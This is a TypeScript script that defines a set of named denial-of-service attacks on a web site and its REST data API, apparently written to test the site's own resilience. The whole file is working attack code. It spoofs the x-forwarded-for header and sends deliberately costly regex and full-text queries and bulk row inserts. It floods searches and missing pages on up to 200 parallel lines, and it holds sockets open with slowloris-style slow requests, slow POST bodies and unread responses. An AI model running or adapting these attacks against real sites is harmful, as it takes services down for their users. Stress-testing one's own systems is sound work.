import { randomInt } from 'node:crypto';
import { once } from 'node:events';
import { Agent, request as httpRequest } from 'node:http';
import type { IncomingMessage, OutgoingHttpHeaders } from 'node:http';
import { connect } from 'node:net';
import type { Socket } from 'node:net';
import { setTimeout as pause } from 'node:timers/promises';

// What one address may try to take a site from all others. This file also is the attacker's process:
// `node attacks.ts <site's url> <public key> <name of the attack>`, until it is killed.

/** Everything an attacker sends comes from here, where the site trusts the proxy that says so. */
const address = '203.0.113.66';

interface Target {
  url: URL;
  key: string;
}

/** Does the same over and over, on so many lines at once. */
function onLines(count: number, attempt: (target: Target) => Promise<unknown>) {
  return async (target: Target) => {
    const line = async () => {
      for (;;) {
        await attempt(target).catch(() => undefined);
        // Refused at once, it would keep its own process busy and nobody else's.
        await pause(2);
      }
    };
    await Promise.all(Array.from({ length: count }, line));
  };
}

const agent = new Agent({ keepAlive: true, maxSockets: Number.POSITIVE_INFINITY });

interface Asked {
  path: string;
  method?: string;
  headers?: OutgoingHttpHeaders;
  body?: string;
}

function ask({ url, key }: Target, { path, method = 'GET', headers = {}, body }: Asked) {
  return new Promise<IncomingMessage>((resolve, reject) => {
    const sent = httpRequest(
      {
        agent,
        hostname: url.hostname,
        port: url.port,
        method,
        path,
        headers: {
          'x-forwarded-for': address,
          ...(path.startsWith('/rest/') && { apikey: key }),
          ...headers,
        },
      },
      resolve,
    );
    sent.on('error', reject);
    sent.end(body);
  });
}

async function askAndRead(target: Target, asked: Asked): Promise<void> {
  const answer = await ask(target, asked);
  answer.resume();
  await once(answer, 'end');
}

/** Asks, and leaves after so many ms whatever has come. */
async function askAndLeave(target: Target, asked: Asked, afterMs: number): Promise<void> {
  const socket = await open(target);
  socket.write(`${requestText(target, asked)}\r\n`);
  await pause(afterMs);
  socket.destroy();
}

async function open({ url }: Target): Promise<Socket> {
  const socket = connect(Number(url.port), url.hostname);
  socket.on('error', () => {});
  await once(socket, 'connect');
  return socket;
}

function requestText({ url, key }: Target, { path, method = 'GET', headers = {} }: Asked): string {
  const all = { host: url.host, 'x-forwarded-for': address, apikey: key, ...headers };
  const lines = Object.entries(all).map(([name, value]) => `${name}: ${String(value)}\r\n`);
  return `${method} ${path} HTTP/1.1\r\n${lines.join('')}`;
}

const any = () => randomInt(1_000_000_000);
const table = '/rest/v1/Articles';
const messages = '/rest/v1/Contact%20Records';
const json = { 'content-type': 'application/json' };

const costly = [
  () => `${table}?content=match.(a%7Ca)*${any()}$`,
  () => `${table}?select=id&content=ilike.*a*b*${any()}*`,
  () => `${table}?or=(${Array.from({ length: 90 }, (_, n) => `content.like.*${n}*`).join()})`,
  () => `${table}?select=${Array.from({ length: 80 }, (_, n) => `%22x:${n}%22:content`).join()}`,
  () => `/rest/v1/%2FArticles?content=fts.word${any()}`,
  () => `/rest/v1/Articles%2F?order=content&select=id,content`,
  () => `${table}?select=*&limit=1000&offset=${any() % 4_000}&order=id`,
  () => `${table}?select=*&search_vector=fts.${'a%7C'.repeat(90)}a`,
];

const letters = (count: number) =>
  Array.from({ length: count }, () => String.fromCharCode('a'.charCodeAt(0) + randomInt(26))).join(
    '',
  );
const searchForEight = (target: Target) =>
  askAndRead(target, {
    path: `/search?q=${Array.from({ length: 8 }, () => letters(9)).join('+')}`,
  });
/** It begins and ends as many names in titles do. */
const misspelt = () => `kar${letters(3)}pur`;
/** Words that articles have, and two that are compared with those of titles. */
const searchForTwo = (target: Target) =>
  askAndRead(target, { path: `/search?q=${misspelt()}+the+note+${misspelt()}+answer` });

/** By name; each goes on until its process ends. */
export const attacks: Record<string, (target: Target) => Promise<void>> = {
  'costly questions to the API': onLines(50, (target) =>
    askAndRead(target, { path: (costly[any() % costly.length] ?? costly[0])?.() ?? table }),
  ),
  'rows in heaps through the API': onLines(16, (target) =>
    askAndRead(target, {
      path: messages,
      method: 'POST',
      headers: any() % 2 === 0 ? json : { 'content-type': 'text/csv' },
      body:
        any() % 2 === 0
          ? JSON.stringify(Array.from({ length: 500 }, () => ({ message: 'x' })))
          : `message\r${'x\r'.repeat(20_000)}`,
    }),
  ),
  'categories that do not exist': onLines(100, (target) =>
    askAndRead(target, {
      path: any() % 2 === 0 ? `/?category=${any()}` : `/online-mode?category=${any()}`,
    }),
  ),
  'articles and courses that do not exist': onLines(100, (target) =>
    askAndRead(target, { path: any() % 2 === 0 ? `/article/${any()}` : `/course-${any()}` }),
  ),
  'questions whose sender has left': onLines(100, (target) =>
    askAndLeave(
      target,
      {
        path:
          any() % 2 === 0
            ? `/article/${any()}`
            : `${table}?select=*&limit=1000&order=id&offset=${any() % 4_000}`,
        headers: { 'content-length': 0 },
      },
      30,
    ),
  ),
  'downloads that are broken off': onLines(50, (target) =>
    askAndLeave(target, { path: '/clips/topper-2.mp4' }, 10),
  ),
  'requests without an end on one connection': onLines(4, async (target) => {
    const socket = await open(target);
    const many = `${requestText(target, { path: '/' })}\r\n`.repeat(10_000);
    socket.write(many);
    await Promise.race([once(socket, 'close'), pause(5_000)]);
    socket.destroy();
  }),
  'readers that do not read': onLines(100, async (target) => {
    const socket = await open(target);
    socket.pause();
    const asked = { path: '/editorial-analysis', headers: { 'accept-encoding': 'identity' } };
    socket.write(`${requestText(target, asked)}\r\n`.repeat(16));
    await Promise.race([once(socket, 'close'), pause(20_000)]);
    socket.destroy();
  }),
  'misspelt searches on 16 lines': onLines(16, searchForEight),
  'misspelt searches on 32 lines': onLines(32, searchForEight),
  'misspelt searches on 200 lines': onLines(200, searchForEight),
  'two misspelt words on 200 lines': onLines(200, searchForTwo),
  'posts that come slowly': onLines(100, async (target) => {
    const socket = await open(target);
    const path = any() % 2 === 0 ? messages : '/contact';
    const headers = { ...json, 'content-length': 1_000 };
    socket.write(`${requestText(target, { path, method: 'POST', headers })}\r\n`);
    for (let sent = 0; sent < 1_000 && !socket.destroyed; sent += 1) {
      socket.write('x');
      await pause(1_000);
    }
  }),
};

const [url, key, name = ''] = process.argv.slice(2);
if (import.meta.main && url !== undefined && key !== undefined) {
  await attacks[name]?.({ url: new URL(url), key });
}
